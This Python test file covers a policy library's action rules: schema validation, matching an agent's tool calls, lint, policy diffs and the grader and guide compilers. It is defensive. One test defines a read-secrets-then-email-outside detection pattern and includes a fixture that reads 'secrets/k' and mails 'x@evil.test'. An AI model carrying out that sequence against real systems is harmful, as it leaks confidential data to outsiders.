"""Rules about actions: the schema, matching tool calls, lint, diff and the compilers."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import orjson
import pytest
from pydantic import ValidationError

from policylab.chat import ChatMessage
from policylab.errors import InputError
from policylab.policy.actions import (
    calls_in,
    describe_pattern,
    find_matches,
    render_turns,
    values_at,
)
from policylab.policy.compile import compile_examples, compile_grader_prompt, compile_guide
from policylab.policy.diff import diff_policies
from policylab.policy.frameworks import builtin_frameworks, load_framework
from policylab.policy.lint import lint
from policylab.policy.loader import load_policy
from policylab.policy.schema import ActionPattern, Example, Policy, Rule

REPO = Path(__file__).resolve().parents[2]
EXAMPLE = REPO / "examples" / "agentic" / "policy.yaml"


def _call(call_id: str, name: str, arguments: dict[str, Any] | str) -> dict[str, Any]:
    raw = arguments if isinstance(arguments, str) else json.dumps(arguments)
    return {"id": call_id, "type": "function", "function": {"name": name, "arguments": raw}}


def _conversation(*turns: dict[str, Any]) -> list[ChatMessage]:
    return [ChatMessage.model_validate(t) for t in turns]


BASE: dict[str, Any] = {
    "id": "p",
    "version": "1.0.0",
    "title": "P",
    "scope": "Test.",
    "owners": [{"name": "T"}],
    "categories": [
        {
            "id": "PAY",
            "title": "Payments",
            "description": "Money.",
            "severity": "high",
            "expected_behavior": "comply",
        }
    ],
    "rules": [{"id": "PAY.a", "title": "Text rule", "violating": ["Bad text."]}],
}


# -- schema -------------------------------------------------------------------------------------


def test_pattern_needs_exactly_one_of_tool_or_sequence() -> None:
    with pytest.raises(ValidationError, match="exactly one of `tool`"):
        ActionPattern()
    with pytest.raises(ValidationError, match="exactly one of `tool`"):
        ActionPattern(tool="a", sequence=[{"tool": "a"}, {"tool": "b"}])
    with pytest.raises(ValidationError, match="put `arguments` and `result` on its steps"):
        ActionPattern(sequence=[{"tool": "a"}, {"tool": "b"}], result="x")
    with pytest.raises(ValidationError, match="at least 2"):
        ActionPattern(sequence=[{"tool": "a"}])
    assert ActionPattern(sequence=[{"tool": "a"}, {"tool": "b"}]).label == "a > b"


def test_argument_paths_and_tool_names_are_checked() -> None:
    ActionPattern(tool="send_payment", arguments={"payee.iban": "x", "items[*].amount": "1"})
    with pytest.raises(ValidationError):
        ActionPattern(tool="send payment")
    with pytest.raises(ValidationError):
        ActionPattern(tool="t", arguments={"a..b": "x"})


def test_actions_need_an_action_rule() -> None:
    with pytest.raises(ValidationError, match="add `subject: action`"):
        Rule(id="PAY.a", title="t", violating=["v"], actions=[{"tool": "send_payment"}])
    rule = Rule(id="PAY.a", title="t", violating=["v"], subject="action", actions=[{"tool": "pay"}])
    assert rule.is_action


def test_text_policies_keep_their_content_hash() -> None:
    # The hash of a policy without action rules or transcripts is that of its JSON without the
    # new keys: written before they existed, it still identifies the same content.
    policy = Policy.model_validate(BASE)
    expected = {
        "id": "p",
        "version": "1.0.0",
        "title": "P",
        "scope": "Test.",
        "owners": [{"name": "T", "email": None, "role": None}],
        "changelog": [],
        "grader_token_budget": 600,
        "definitions": [],
        "categories": [
            {
                "id": "PAY",
                "title": "Payments",
                "description": "Money.",
                "severity": "high",
                "expected_behavior": "comply",
                "harm_model": None,
                "mappings": {},
                "regulations": [],
            }
        ],
        "rules": [
            {
                "id": "PAY.a",
                "category": None,
                "title": "Text rule",
                "allowed": [],
                "violating": ["Bad text."],
                "escalate": [],
                "ambiguity": [],
                "notes": None,
                "regulations": [],
            }
        ],
        "precedence": [],
        "ambiguity": [],
        "examples": [],
        "gates": policy.gates.model_dump(mode="json"),
    }
    digest = hashlib.sha256(orjson.dumps(expected, option=orjson.OPT_SORT_KEYS)).hexdigest()
    assert policy.content_hash == f"sha256:{digest}"
    with_action = json.loads(json.dumps(BASE))
    with_action["rules"][0] |= {"subject": "action", "actions": [{"tool": "pay"}]}
    assert Policy.model_validate(with_action).content_hash != policy.content_hash


def test_example_transcripts() -> None:
    base = {
        "id": "e",
        "category": "PAY",
        "prompt": "Pay Bob.",
        "expected_behavior": "comply",
        "rationale": "r",
    }
    turns = [{"role": "assistant", "content": "Done."}]
    with pytest.raises(ValidationError, match="must say whether it `violates`"):
        Example.model_validate(base | {"transcript": turns})
    with pytest.raises(ValidationError, match="not both"):
        Example.model_validate(base | {"transcript": turns, "response": "x", "violates": False})
    with pytest.raises(ValidationError, match="at least one assistant turn"):
        Example.model_validate(
            base | {"transcript": [{"role": "user", "content": "hi"}], "violates": False}
        )
    ok = Example.model_validate(base | {"transcript": turns, "violates": True})
    assert ok.transcript is not None
    assert "transcript" in ok.model_dump()


def test_loader_names_the_file_line_and_field_of_a_bad_pattern(tmp_path: Path) -> None:
    path = tmp_path / "policy.yaml"
    path.write_text(
        "id: p\nversion: 1.0.0\ntitle: P\nscope: s\nowners: [{name: T}]\n"
        "categories:\n  - {id: PAY, title: P, description: d, severity: high, "
        "expected_behavior: comply}\n"
        "rules:\n"
        "  - id: PAY.a\n"
        "    title: t\n"
        "    violating: [v]\n"
        "    subject: action\n"
        "    actions:\n"
        "      - tool_name: send_payment\n",
        encoding="utf-8",
    )
    with pytest.raises(InputError) as info:
        load_policy(path)
    text = info.value.render()
    assert "policy.yaml:14:9 (rules[PAY.a].actions[0].tool_name): unknown key `tool_name`" in text
    assert "did you mean `tool`?" in text


# -- matching -----------------------------------------------------------------------------------


def test_values_at_paths() -> None:
    data = {"to": "bob", "payee": {"iban": "DE00"}, "items": [{"amount": 5}, {"amount": 7}]}
    assert values_at(data, "to") == ["bob"]
    assert values_at(data, "payee.iban") == ["DE00"]
    assert values_at(data, "items[1].amount") == [7]
    assert values_at(data, "items[*].amount") == [5, 7]
    assert values_at(data, "items[5].amount") == []
    assert values_at(data, "missing.key") == []


def test_calls_in_numbers_turns_and_finds_results() -> None:
    messages = _conversation(
        {"role": "user", "content": "Pay Bob $20."},
        {"role": "assistant", "tool_calls": [_call("c1", "list_payees", {})]},
        {"role": "tool", "tool_call_id": "c1", "content": '{"payees": ["Bob"]}'},
        {"role": "assistant", "content": "Paying.", "tool_calls": [_call("c2", "pay", "{bad")]},
        {"role": "tool", "tool_call_id": "c2", "content": "error"},
        {"role": "assistant", "content": "Done."},
    )
    calls = calls_in(messages)
    assert [(c.tool, c.turn, c.index, c.result_index) for c in calls] == [
        ("list_payees", 1, 1, 2),
        ("pay", 2, 3, 4),
    ]
    assert calls[0].arguments == {}
    assert calls[1].arguments is None  # not JSON: no argument pattern can match it
    assert calls[1].raw_arguments == "{bad"


def test_a_call_matches_by_tool_arguments_and_result() -> None:
    messages = _conversation(
        {"role": "user", "content": "x"},
        {
            "role": "assistant",
            "tool_calls": [
                _call("c1", "send_payment", {"to": "acct-9", "amount": 950}),
                _call("c2", "send_payment", {"to": "Bob", "amount": 20}),
            ],
        },
        {"role": "tool", "tool_call_id": "c1", "content": '{"status": "sent"}'},
        {"role": "tool", "tool_call_id": "c2", "content": '{"error": "insufficient funds"}'},
    )
    calls = calls_in(messages)
    by_amount = ActionPattern(tool="send_payment", arguments={"amount": r"^\d{3,}$"})
    assert [m.last.call_id for m in find_matches(by_amount, calls)] == ["c1"]
    sent = ActionPattern(tool="send_payment", result='"status": "sent"')
    assert [m.last.call_id for m in find_matches(sent, calls)] == ["c1"]
    # `re.search`: an unanchored expression matches anywhere in the value.
    to_acct = ActionPattern(tool="send_payment", arguments={"to": "acct"})
    assert [m.last.call_id for m in find_matches(to_acct, calls)] == ["c1"]
    assert find_matches(ActionPattern(tool="other"), calls) == []


def test_a_sequence_matches_in_order_only() -> None:
    read_then_send = ActionPattern(
        sequence=[
            {"tool": "read_file", "arguments": {"path": "secret"}},
            {"tool": "send_email", "arguments": {"to": r"^(?!.*@example\.com$)"}},
        ]
    )
    in_order = _conversation(
        {"role": "user", "content": "x"},
        {"role": "assistant", "tool_calls": [_call("a", "read_file", {"path": "secrets/k"})]},
        {"role": "tool", "tool_call_id": "a", "content": "k=1"},
        {"role": "assistant", "tool_calls": [_call("b", "send_email", {"to": "me@example.com"})]},
        {"role": "tool", "tool_call_id": "b", "content": "sent"},
        {"role": "assistant", "tool_calls": [_call("c", "send_email", {"to": "x@evil.test"})]},
        {"role": "tool", "tool_call_id": "c", "content": "sent"},
    )
    matches = find_matches(read_then_send, calls_in(in_order))
    assert [(m.last.call_id, [c.turn for c in m.calls]) for m in matches] == [("c", [1, 3])]
    reversed_order = _conversation(
        {"role": "user", "content": "x"},
        {"role": "assistant", "tool_calls": [_call("c", "send_email", {"to": "x@evil.test"})]},
        {"role": "tool", "tool_call_id": "c", "content": "sent"},
        {"role": "assistant", "tool_calls": [_call("a", "read_file", {"path": "secrets/k"})]},
        {"role": "tool", "tool_call_id": "a", "content": "k=1"},
    )
    assert find_matches(read_then_send, calls_in(reversed_order)) == []


def test_describe_and_render() -> None:
    pattern = ActionPattern(
        tool="send_payment", arguments={"amount": r"\d+"}, requires_confirmation=True
    )
    assert describe_pattern(pattern) == (
        r"calling send_payment(amount ~ /\d+/), unless the user explicitly confirmed it first"
    )
    turns = _conversation(
        {"role": "assistant", "content": "Paying.", "tool_calls": [_call("c1", "pay", {})]},
        {"role": "tool", "tool_call_id": "c1", "content": "ok"},
    )
    assert render_turns(turns) == "assistant: Paying.\n\n→ pay({})\n\ntool (pay): ok"
    assert render_turns(turns, as_response=True).startswith("Paying.\n\n→ pay({})")


# -- lint ---------------------------------------------------------------------------------------


def _write(tmp_path: Path, rules: str, categories: str = "", extra: str = "") -> Path:
    path = tmp_path / "policy.yaml"
    path.write_text(
        "id: p\nversion: 1.0.0\ntitle: P\nscope: s\nowners: [{name: T}]\n"
        "categories:\n"
        "  - id: PAY\n    title: P\n    description: d\n    severity: high\n"
        "    expected_behavior: comply\n" + categories + "rules:\n" + rules + extra,
        encoding="utf-8",
    )
    return path


def _codes(findings: list[Any], prefix: str) -> list[tuple[str, int | None]]:
    return [(f.code, f.location.line) for f in findings if f.code[0] in prefix]


def test_lint_action_rules(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "  - id: PAY.a\n"
        "    title: t\n"
        "    violating: [v]\n"
        "    subject: action\n"
        "    actions:\n"
        "      - tool: send_paymnet\n"  # line 18
        "        arguments: {amount: '[0-9'}\n"  # line 19: does not compile
        "  - id: PAY.b\n"
        "    title: t\n"
        "    violating: [v]\n"
        "    subject: action\n",  # line 23: no patterns
    )
    findings = lint(load_policy(path), tools=["send_payment", "get_balance"])
    assert _codes(findings, "A") == [("A001", 18), ("A002", 19), ("A003", 23)]
    unknown = next(f for f in findings if f.code == "A001")
    assert "did you mean `send_payment`?" in (unknown.hint or "")
    # Without a declared tool list, tool names are not checked.
    assert [c for c, _ in _codes(lint(load_policy(path)), "A")] == ["A002", "A003"]


def test_lint_regulation_references(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "  - id: PAY.a\n    title: t\n    violating: [v]\n"
        "    regulations: [eu_ai_act:art_14_4_e, 'Computer Misuse Act 1990, s.1']\n",
        categories="    regulations: [eu_ai_act:art_99, gdpr:art_5, nist_ai_rmf:MAP-1.1]\n",
    )
    findings = lint(load_policy(path))
    # art_99 is not listed; gdpr is not loaded; art_14_4_e refines art_14 and MAP-1.1 refines
    # MAP-1 (both fine); free text is not checked.
    assert _codes(findings, "R") == [("R001", 12), ("R002", 12)]
    dangling = next(f for f in findings if f.code == "R001")
    assert "lists no provision `art_99`" in dangling.message
    assert dangling.location.field == "categories[PAY].regulations[0]"
    team = tmp_path / "gdpr.yaml"
    team.write_text(
        "id: gdpr\ntitle: GDPR\nprovisions:\n  - {id: art_5, title: Principles}\n",
        encoding="utf-8",
    )
    known = dict(builtin_frameworks())
    known["gdpr"] = load_framework(team)
    assert _codes(lint(load_policy(path), frameworks=known), "R") == [("R001", 12)]


def test_lint_does_not_call_an_unconfirmed_payment_a_label_error() -> None:
    # pay-unconfirmed does what was asked (comply) and violates: right for actions (X003 is about
    # text responses only).
    findings = lint(load_policy(EXAMPLE), tools=None)
    assert not [f for f in findings if f.code.startswith(("X", "D", "A", "R"))]


# -- diff ---------------------------------------------------------------------------------------


def _policy_with(actions: list[dict[str, Any]]) -> Policy:
    data = json.loads(json.dumps(BASE))
    data["rules"][0] |= {"subject": "action", "actions": actions}
    return Policy.model_validate(data)


def test_diff_compares_action_patterns_one_by_one() -> None:
    old = _policy_with(
        [
            {"tool": "send_payment", "requires_confirmation": True},
            {"id": "deletes", "tool": "delete_file", "arguments": {"path": "^/"}},
        ]
    )
    new = _policy_with(
        [
            {"tool": "send_payment", "requires_confirmation": False},
            {"id": "deletes", "tool": "delete_file", "arguments": {"path": "^(?!scratch/)"}},
            {"tool": "send_email"},
        ]
    )
    changes = diff_policies(old, new).changes
    summary = [(c.kind, c.field, c.breaking) for c in changes]
    assert summary == [
        ("changed", "actions[send_payment].requires_confirmation", True),
        ("changed", "actions[deletes].arguments", False),
        ("added", "actions[send_email]", False),
    ]
    removed = diff_policies(new, old).changes
    assert ("removed", "actions[send_email]") in [(c.kind, c.field) for c in removed]


def test_diff_marks_a_subject_change_breaking() -> None:
    text = Policy.model_validate(BASE)
    action = _policy_with([{"tool": "pay"}])
    change = next(c for c in diff_policies(text, action).changes if c.field == "subject")
    assert change.breaking
    assert (change.old, change.new) == (None, "action")


# -- compilers ------------------------------------------------------------------------------------


def test_grader_prompt_lists_the_actions_that_violate() -> None:
    policy = load_policy(EXAMPLE).policy
    text = compile_grader_prompt(policy, category="AGT.PAY").text
    assert "## ACTIONS" in text
    assert (
        "- AGT.PAY.a: calling send_payment(), unless the user explicitly confirmed it first" in text
    )
    # A category without action rules has no ACTIONS block.
    plain = Policy.model_validate(BASE)
    assert "## ACTIONS" not in compile_grader_prompt(plain, category="PAY").text


def test_guide_shows_actions_and_transcripts() -> None:
    policy = load_policy(EXAMPLE).policy
    markdown = compile_guide(policy)
    assert "*Actions that violate:*" in markdown
    assert "→ send_payment(" in markdown
    html = compile_guide(policy, fmt="html")
    assert "Actions that violate" in html
    assert "calling send_payment(), unless the user explicitly confirmed it first" in html


def test_training_rows_keep_a_transcript() -> None:
    policy = load_policy(EXAMPLE).policy
    rows = {r["id"]: r for r in compile_examples(policy, category="AGT.PAY")}
    row = rows["pay-unconfirmed/transcript"]
    assert row["violation"] is True
    assert row["behavior"] == "comply"
    assert row["transcript"][0]["tool_calls"][0]["function"]["name"] == "send_payment"
    assert row["response"].startswith('→ send_payment({"amount": 20, "to": "Bob"})')
    assert "transcript" not in rows["pay-safe-account-scam/prompt"]
